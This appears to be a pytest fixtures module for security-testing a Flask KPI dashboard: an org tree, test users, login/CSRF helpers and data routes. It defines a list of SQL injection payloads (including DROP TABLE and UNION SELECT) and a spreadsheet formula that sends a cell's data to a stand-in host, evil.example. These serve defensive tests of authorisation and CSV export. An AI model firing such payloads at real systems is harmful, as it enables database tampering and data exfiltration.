"""A hand-made org tree in a real snapshot file, real users in a real app.db, a tiny web app.

Org tree (dim_org / dim_org_ancestor, grids are units too):

    C0 city (root)
    ├── X1 county ── S1 station ── G1 grid
    └── X2 county ── S2 station ── G2 grid

kpi_value: one daily row of `repair.rate` per unit, value = 10 × the unit's number
(C0 → 0, X1 → 11, S1 → 12, G1 → 13, X2 → 21, S2 → 22, G2 → 23), and one row of `bill.note`
for G2 whose text column holds a spreadsheet formula.
"""
from __future__ import annotations

import json
import sqlite3
from collections.abc import Iterator
from pathlib import Path

import duckdb
import pytest
from flask import Flask, Response, jsonify, request

from dashboards._components.auth import audit_export, current_scope, init_auth, require
from etl.settings import Settings, load_settings
from kpis.appdb import AppDb
from kpis.scope import authorise
from kpis.serving import SnapshotReader

PASSWORD = "correct horse battery"
UNITS = {  # org_no: (name, level, parent, value)
    "C0": ("市公司", "city", None, 0.0),
    "X1": ("一县", "county", "C0", 11.0),
    "S1": ("一所", "station", "X1", 12.0),
    "G1": ("一网格", "grid", "S1", 13.0),
    "X2": ("二县", "county", "C0", 21.0),
    "S2": ("二所", "station", "X2", 22.0),
    "G2": ("二网格", "grid", "S2", 23.0),
}
SQL_PAYLOADS = ["X1' OR '1'='1", "X1'; DROP TABLE kpi_value; --", "X1\" OR 1=1 --",
                "') UNION SELECT kpi_id, org_no, value, note FROM kpi_value --",
                "%", "X%", "*", "' OR org_no LIKE '%", "X1\x00X2"]
FORMULA_TEXT = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def _ancestors(org: str) -> list[str]:
    chain = [org]
    while UNITS[chain[-1]][2] is not None:
        chain.append(UNITS[chain[-1]][2])
    return chain


def write_snapshot(serving_dir: Path, version: int = 1) -> Path:
    """A serving snapshot with dim_org, dim_org_ancestor and kpi_value, then CURRENT."""
    serving_dir.mkdir(parents=True, exist_ok=True)
    path = serving_dir / f"serving_{version}.duckdb"
    con = duckdb.connect(str(path))
    con.execute("CREATE TABLE dim_org (org_no VARCHAR, org_name VARCHAR, org_level VARCHAR, "
                "parent_no VARCHAR, depth INTEGER, is_root BOOLEAN)")
    con.execute("CREATE TABLE dim_org_ancestor (org_no VARCHAR, ancestor_no VARCHAR, "
                "ancestor_level VARCHAR)")
    con.execute("CREATE TABLE kpi_value (kpi_id VARCHAR, theme VARCHAR, org_no VARCHAR, "
                "org_level VARCHAR, grain VARCHAR, period_start TIMESTAMP, period_end TIMESTAMP, "
                "value DOUBLE, numerator DOUBLE, denominator DOUBLE, baseline DOUBLE, "
                "status VARCHAR, is_final BOOLEAN, computed_at TIMESTAMP, watermarks VARCHAR, "
                "note VARCHAR)")
    for org, (name, level, parent, value) in UNITS.items():
        chain = _ancestors(org)
        con.execute("INSERT INTO dim_org VALUES (?, ?, ?, ?, ?, ?)",
                    [org, name, level, parent, len(chain) - 1, parent is None])
        for anc in chain:
            con.execute("INSERT INTO dim_org_ancestor VALUES (?, ?, ?)", [org, anc, UNITS[anc][1]])
        con.execute("INSERT INTO kpi_value VALUES ('repair.rate', 'repair', ?, ?, 'daily', "
                    "'2026-10-15', '2026-10-16', ?, ?, 100, NULL, 'ok', true, "
                    "'2026-10-16 00:05:00', '{}', NULL)", [org, level, value, value])
    con.execute("INSERT INTO kpi_value VALUES ('bill.note', 'bill', 'G2', 'grid', 'daily', "
                "'2026-10-15', '2026-10-16', 1, 1, 1, NULL, 'ok', true, '2026-10-16 00:05:00', "
                "'{}', ?)", [FORMULA_TEXT])
    con.close()
    (serving_dir / "CURRENT").write_text(f"{version}\n", encoding="ascii")
    return path


@pytest.fixture
def settings(tmp_path: Path) -> Settings:
    return load_settings({"DATA_DIR": str(tmp_path / "data")})


@pytest.fixture
def snapshot(settings: Settings) -> Path:
    return write_snapshot(settings.serving_dir)


@pytest.fixture(scope="session")
def users_template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An app.db with the test users, made once: argon2 hashing costs about 0.1 s a user."""
    path = tmp_path_factory.mktemp("appdb") / "app.db"
    db = AppDb(path)
    for name, role, org in (("mgr1", "manager", "X1"), ("mgr2", "manager", "X2"),
                            ("ana1", "analyst", "X1"), ("duty1", "duty", "S1"),
                            ("boss", "admin", "C0")):
        db.add_user(name, role, org, PASSWORD)
    db.engine.dispose()
    return path


@pytest.fixture
def appdb(settings: Settings, users_template: Path) -> AppDb:
    copy_users(users_template, settings.app_db_path)
    return AppDb(settings.app_db_path, settings.timezone)


def copy_users(template: Path, target: Path) -> None:
    """Copy the users' app.db (sqlite backup: consistent although the template is in WAL mode)."""
    target.parent.mkdir(parents=True, exist_ok=True)
    src = sqlite3.connect(template)
    dst = sqlite3.connect(target)
    src.backup(dst)
    src.close()
    dst.close()


def _rows(reader: SnapshotReader, org_ids: tuple[str, ...], kpi: str | None) -> list[dict[str, object]]:
    """The query a data route runs: bound parameters, only the authorised units."""
    if not org_ids:
        return []
    marks = ", ".join("?" for _ in org_ids)
    sql = (f"SELECT kpi_id, org_no, value, note FROM kpi_value WHERE org_no IN ({marks})"
           + (" AND kpi_id = ?" if kpi is not None else "") + " ORDER BY kpi_id, org_no")
    params: list[object] = [*org_ids] + ([kpi] if kpi is not None else [])
    with reader.cursor() as (_version, cur):
        cur.execute(sql, params)
        cols = [d[0] for d in cur.description]
        return [dict(zip(cols, r)) for r in cur.fetchall()]


def build_test_app(settings: Settings, snapshot: Path, appdb: AppDb) -> Flask:
    """A Flask app with the real auth plus routes shaped like the product's data routes."""
    server = Flask("security_test_app")
    reader = SnapshotReader(settings.serving_dir)
    init_auth(server, settings, reader=reader, db=appdb)

    @server.get("/")
    def home() -> str:
        return "<html><body>dashboard</body></html>"

    @server.get("/api/values")
    def values() -> Response:
        scope = current_scope()
        return jsonify(rows=_rows(reader, authorise(scope, request.args.get("org")),
                                  request.args.get("kpi")))

    @server.get("/export/values.csv")
    @require("export")
    def export_values() -> Response:
        from kpis.export import csv_chunks
        scope = current_scope()
        rows = _rows(reader, authorise(scope, request.args.get("org")), request.args.get("kpi"))
        audit_export(scope, "values", dict(request.args), len(rows))
        header = ["kpi_id", "org_no", "value", "note"]
        body = b"".join(csv_chunks(header, [[[r[c] for c in header] for r in rows]]))
        return Response(body, mimetype="text/csv")

    @server.post("/api/ack")
    @require("acknowledge")
    def ack() -> Response:
        return jsonify(ok=True, user=current_scope().user)

    @server.post("/_dash-update-component")
    def dash_like_callback() -> Response:
        """Shaped like Dash's endpoint: the org arrives in the JSON payload (tamperable)."""
        payload = request.get_json(force=True)
        org = (payload.get("inputs") or [{}])[0].get("value")
        return jsonify(rows=_rows(reader, authorise(current_scope(), org), None))

    return server


@pytest.fixture
def app(settings: Settings, snapshot: Path, appdb: AppDb) -> Flask:
    return build_test_app(settings, snapshot, appdb)


def csrf_of(client) -> str:  # type: ignore[no-untyped-def]
    """The CSRF token the login page hands out (hidden field), as a browser would read it."""
    page = client.get("/login").get_data(as_text=True)
    marker = 'name="csrf_token" value="'
    start = page.index(marker) + len(marker)
    return page[start:page.index('"', start)]


def login(client, name: str, password: str = PASSWORD):  # type: ignore[no-untyped-def]
    """Log in through the real form; returns the response of the POST."""
    return client.post("/login", data={"username": name, "password": password,
                                       "csrf_token": csrf_of(client), "next": "/"})


def cookie_csrf(client) -> str:  # type: ignore[no-untyped-def]
    """The token csrf.js reads from the kpi_csrf cookie after login."""
    cookie = client.get_cookie("kpi_csrf")
    assert cookie is not None, "no kpi_csrf cookie after login"
    return cookie.value


@pytest.fixture
def client_for(app: Flask) -> Iterator:
    """Logged-in test clients by user name."""
    def make(name: str):  # type: ignore[no-untyped-def]
        client = app.test_client()
        resp = login(client, name)
        assert resp.status_code == 302, resp.get_data(as_text=True)
        return client
    yield make


def rows_json(resp) -> list[dict[str, object]]:  # type: ignore[no-untyped-def]
    return json.loads(resp.get_data(as_text=True))["rows"]
